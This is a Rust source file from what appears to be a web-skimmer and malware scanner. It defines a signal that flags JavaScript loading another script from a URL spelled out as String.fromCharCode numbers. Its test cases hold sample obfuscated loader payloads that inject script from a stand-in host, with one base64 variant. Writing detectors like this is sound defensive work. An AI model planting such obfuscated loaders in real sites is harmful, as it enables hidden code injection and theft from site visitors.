//! `script-from-number-codes`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-from-number-codes",
    description: "The script loads another script from a URL it writes as character numbers.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::ScriptFromCoded])],
    within: 0,
    only_if: Some(is_numbered),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var s=document.createElement('script');s.src=String.fromCharCode(104,116,116,112,115,58,47,47,97,46,101,120,97,109,112,108,101,47,106,46,106,115);document.head.appendChild(s)",
            "var d=document;var s=d.createElement('script');var p=String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101, 120, 97, 109, 112, 108, 101);s.src=p+'/j.js';d.head.appendChild(s)",
        ],
        without: &[
            "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)",
            "var s=document.createElement('script');s.src='https://a.example/j.js';document.head.appendChild(s);t=String.fromCharCode(104,116,116,112)",
        ],
    },
};

/// Whether the numbers of `http` begin a long list of characters' numbers just before.
fn is_numbered(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    let places = near.places();
    let bounds = |at: usize| near.item(at).map(|item| (item.start as usize, item.end as usize));
    let (Some((from, _)), Some((_, to))) = (bounds(places.start), bounds(places.end.saturating_sub(1)))
    else {
        return false;
    };
    let source = evidence.stream.source().as_bytes();
    // All items of code that was decoded have the place of the text that it was.
    let is_decoded = near.item(held.last as usize).is_some_and(|item| item.layer > 0);
    if is_decoded
        && bounds(held.last as usize).is_some_and(|(from, to)| is_only_numbers(source.get(from..to)))
    {
        return true;
    }
    let Some(source) = source.get(from..to.min(from.saturating_add(LONGEST))) else { return false };
    memchr::memmem::find_iter(source, b"fromCharCode(").any(|at| {
        let list = source[at + 13..].split(|byte| *byte == b')').next().unwrap_or_default();
        let mut numbers = list.split(|byte| *byte == b',').map(|number| number.trim_ascii());
        let begins = [&b"104"[..], b"116", b"116", b"112"].iter().all(|code| numbers.next() == Some(*code));
        begins && numbers.filter(|number| number.iter().all(u8::is_ascii_digit)).count() >= 6
    })
}

/// Whether the source of a text is a list of characters' numbers, as long as code.
fn is_only_numbers(source: Option<&[u8]>) -> bool {
    let source = source.map_or(&b""[..], |source| &source[..source.len().min(LONGEST)]);
    let Some(at) = memchr::memmem::find(source, b"fromCharCode(") else { return false };
    let list = source[at + 13..].split(|byte| *byte == b')').next().unwrap_or_default();
    let numbers = list.split(|byte| *byte == b',').map(|number| number.trim_ascii());
    numbers.filter(|number| !number.is_empty() && number.iter().all(u8::is_ascii_digit)).count() >= CODE
}

/// Characters of code that loads a script.
const CODE: usize = 60;
/// Bytes of the source that are looked at.
const LONGEST: usize = 8 * 1024;
